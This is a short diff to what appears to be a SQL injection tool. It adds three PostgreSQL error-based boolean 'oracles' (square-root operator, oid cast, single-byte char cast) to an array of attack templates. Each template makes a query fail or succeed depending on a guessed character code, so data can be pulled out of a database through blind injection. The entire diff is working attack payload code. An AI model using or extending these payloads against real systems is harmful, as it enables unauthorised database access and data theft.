@@ -230,6 +230,9 @@ export const oracles: readonly Attack[] = [
   above('int-range', (at, code) => `SELECT int4range(${CODE(at)}, ${code}) ${ROW}`),
   above('make-date', (at, code) => `SELECT make_date(2000, 1, ${CODE(at)} - ${code} + 31) ${ROW}`),
   above('sqrt', (at, code) => `SELECT sqrt(${code} - ${CODE(at)}) ${ROW}`),
+  above('square-root', (at, code) => `SELECT |/ (${code} - ${CODE(at)}) ${ROW}`),
+  above('oid', (at, code) => `SELECT (${code} - ${CODE(at)})::int8::oid ${ROW}`),
+  above('single-byte', (at, code) => `SELECT (${code} - 128 - ${CODE(at)})::"char" ${ROW}`),
   above('power', (at, code) => `SELECT (0.0) ^ (${code} - ${CODE(at)}) ${ROW}`),
   above('modulo', (at, code) => `SELECT 5 % (${CODE(at)} / ${code + 1}) ${ROW}`, { otherwise: true }),
   above(
